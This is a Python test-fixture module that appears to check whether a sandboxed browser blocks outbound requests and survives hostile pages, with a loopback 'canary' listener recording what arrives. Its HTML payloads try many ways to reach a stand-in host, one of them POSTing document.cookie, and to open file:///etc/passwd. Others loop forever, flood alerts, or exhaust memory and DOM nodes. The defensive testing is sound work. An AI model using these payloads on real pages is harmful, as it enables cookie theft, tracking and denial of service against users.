"""Pages that try to reach out, to stay for ever, or to grow without end; `CANARY` stands for a server that listens."""

import socket
import threading
from types import TracebackType
from typing import Self

REACHING = """<!doctype html><html><head><meta charset="utf-8"><title>out</title>
<link rel="dns-prefetch" href="//CANARY"><link rel="preconnect" href="http://CANARY/preconnect">
<link rel="prefetch" href="http://CANARY/prefetch"><link rel="preload" as="script" href="http://CANARY/preload.js">
<link rel="modulepreload" href="http://CANARY/modulepreload.js"><link rel="icon" href="http://CANARY/icon.png">
<link rel="stylesheet" href="http://CANARY/sheet.css"><link rel="manifest" href="http://CANARY/manifest.json">
<style>@import url(http://CANARY/import.css); @font-face { font-family: f; src: url(http://CANARY/font.woff2) }
body { background: url(http://CANARY/background.png); font-family: f }</style>
<script src="http://CANARY/script.js"></script>
<script type="module">import "http://CANARY/module.js";</script>
<script type="speculationrules">{"prefetch": [{"urls": ["http://CANARY/speculated"]}],
 "prerender": [{"urls": ["http://CANARY/prerendered"]}]}</script>
</head><body><h1>Hello</h1><img src="http://CANARY/image.png"><iframe src="http://CANARY/frame"></iframe>
<object data="http://CANARY/object"></object><embed src="http://CANARY/embed"><video src="http://CANARY/video.mp4">
</video><audio src="http://CANARY/audio.mp3"></audio><a id="a" href="http://CANARY/link" ping="http://CANARY/ping">l</a>
<form id="f" method="post" action="http://CANARY/form"><input name="x" value="y"></form>
<iframe srcdoc="<img src='http://CANARY/nested.png'><script>fetch('http://CANARY/nested').catch(() => 0)</script>">
</iframe><script>
const attempts = {
  fetch: () => fetch("http://CANARY/fetch", {method: "POST", body: document.cookie, mode: "no-cors"}).catch(() => 0),
  later: () => fetch("http://CANARY/later", {keepalive: true, mode: "no-cors"}).catch(() => 0),
  xhr: () => { const x = new XMLHttpRequest(); x.open("GET", "http://CANARY/xhr"); x.send(); },
  beacon: () => navigator.sendBeacon("http://CANARY/beacon", "x"),
  socket: () => new WebSocket("ws://CANARY/socket"),
  events: () => new EventSource("http://CANARY/events"),
  transport: () => new WebTransport("https://CANARY/transport"),
  image: () => { new Image().src = "http://CANARY/new-image.png"; },
  link: () => { for (const rel of ["preconnect", "dns-prefetch", "prefetch"]) {
    const l = document.createElement("link"); l.rel = rel; l.href = "http://CANARY/made-" + rel;
    document.head.append(l); } },
  peer: () => { const p = new RTCPeerConnection({iceServers: [{urls: "stun:CANARY"}, {urls: "turn:CANARY?transport=tcp",
    username: "u", credential: "c"}]}); p.createDataChannel("d");
    p.createOffer().then((o) => p.setLocalDescription(o)); },
  worker: () => new Worker(URL.createObjectURL(new Blob(["fetch('http://CANARY/worker')"]))),
  service: () => navigator.serviceWorker.register("/sw.js").catch(() => 0),
  open: () => window.open("http://CANARY/open"),
  popup: () => document.getElementById("a").click(),
  form: () => document.getElementById("f").submit(),
  top: () => { window.top.location = "http://CANARY/top"; },
  parent: () => { window.parent.location.href = "http://CANARY/parent"; },
  here: () => { location = "http://CANARY/here"; },
  assign: () => location.assign("http://CANARY/assign"),
  script: () => { location = "javascript:fetch('http://CANARY/javascript')"; },
  file: () => { location = "file:///etc/passwd"; },
  crash: () => { location = "chrome://crash"; },
  download: () => { const a = document.createElement("a"); a.href = "http://CANARY/download"; a.download = "x";
    a.click(); },
};
for (const [name, attempt] of Object.entries(attempts)) {
  try { attempt(); } catch (e) { console.error(name + " refused"); }
}
</script><meta http-equiv="refresh" content="0; url=http://CANARY/refresh"></body></html>"""

LOOP = "<!doctype html><h1>Busy</h1><script>setTimeout(() => { for (;;); }, 50)</script>"
LOOP_AT_ONCE = "<!doctype html><h1>Busy</h1><script>for (;;);</script>"
ALERTS = (
    "<!doctype html><h1>Alerts</h1><script>for (let i = 0; i < 200; i++) "
    "{ alert(i); confirm(i); prompt(i); }</script>"
)
TALL = "<!doctype html><h1>Tall</h1><div style='height:3000000px;background:linear-gradient(red,blue)'></div>"
RELOAD = "<!doctype html><h1>Again</h1><script>location.reload()</script>"
MEMORY = (
    "<!doctype html><h1>Memory</h1><script>const kept = []; const grow = () => { for (let i = 0; i < 8; i++) "
    "{ const b = new Uint8Array(64 * 1024 * 1024); b.fill(7); kept.push(b); } setTimeout(grow, 1); }; grow()</script>"
)
NODES = (
    "<!doctype html><h1>Nodes</h1><script>const grow = () => { for (let i = 0; i < 20000; i++) "
    "document.body.append(document.createElement('p')); setTimeout(grow, 0); }; grow()</script>"
)
CONSOLE = (
    "<!doctype html><h1>Noise</h1><script>for (let i = 0; i < 20000; i++) "
    "console.error('x'.repeat(500) + i)</script>"
)


class Canary:
    """Listens on the loopback address, for TCP and UDP, and notes everything that arrives."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._tcp.getsockname()[1]
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", self.port))

    @property
    def place(self) -> str:
        """Host and port."""
        return f"127.0.0.1:{self.port}"

    def page(self, text: str) -> str:
        """The page with this server's address in it."""
        return text.replace("CANARY", self.place)

    def __enter__(self) -> Self:
        threading.Thread(target=self._connections, daemon=True).start()
        threading.Thread(target=self._packets, daemon=True).start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._tcp.close()
        self._udp.close()

    def _connections(self) -> None:
        while True:
            try:
                connection, _ = self._tcp.accept()
                with connection:
                    connection.settimeout(0.3)
                    try:
                        said = connection.recv(200).partition(b"\r\n")[0]
                    except TimeoutError:
                        said = b"connection without a word"
                    self.heard.append(said.decode("latin-1"))
            except OSError:
                return

    def _packets(self) -> None:
        while True:
            try:
                self.heard.append(f"packet of {len(self._udp.recvfrom(2000)[0])} bytes")
            except OSError:
                return
